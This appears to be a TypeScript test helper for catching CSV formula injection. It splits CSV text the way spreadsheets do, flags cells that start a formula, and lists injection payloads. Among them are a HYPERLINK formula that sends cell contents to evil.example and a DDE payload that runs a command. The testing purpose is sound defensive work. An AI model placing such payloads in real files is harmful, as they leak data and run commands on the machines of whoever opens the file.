/**
 * The cells that a spreadsheet makes of a CSV file when it splits by this separator, whichever one
 * the file was written with. As Excel and LibreOffice do: a quote counts only at the start of a
 * cell, what follows the closing quote is added to the cell, and an open quote ends with the file.
 */
export function spreadsheetCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let state: "start" | "plain" | "quoted" = "start";
  const end = () => {
    cells.push(cell);
    cell = "";
    state = "start";
  };
  const body = text.replace(/^\ufeff/, "");
  for (let at = 0; at < body.length; at++) {
    const sign = body[at] as string;
    if (state === "quoted") {
      if (sign !== '"') cell += sign;
      else if (body[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else state = "plain";
    } else if (sign === '"' && state === "start") state = "quoted";
    else if (sign === separator || sign === "\n" || sign === "\r") end();
    else {
      cell += sign;
      state = "plain";
    }
  }
  end();
  return cells;
}

/** Whether a spreadsheet might take this cell for a formula; a number is none. */
export function isFormula(cell: string): boolean {
  return (
    /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell.trim())
  );
}

/** Text that tries to become a cell of its own that begins with a formula. */
export const formulaPayloads: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(A1)",
  '"=1+1',
  '""=1+1"',
  "'=1+1",
  "''=1+1",
  "x;=1+1",
  "x;=1+1;y",
  "x,=1+1",
  "x,=1+1,y",
  "x\t=1+1\ty",
  "x; =1+1;y",
  'x;"=1+1";y',
  'x,"=1+1",y',
  'x";=1+1;"',
  'x","=1+1","',
  "x\n=1+1\ny",
  "x\r\n@SUM(A1)\r\ny",
  "x;\t-1+1;y",
  "x;\uff1d1+1;y",
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  'x";\n\'=1+1;,"=2";"',
];
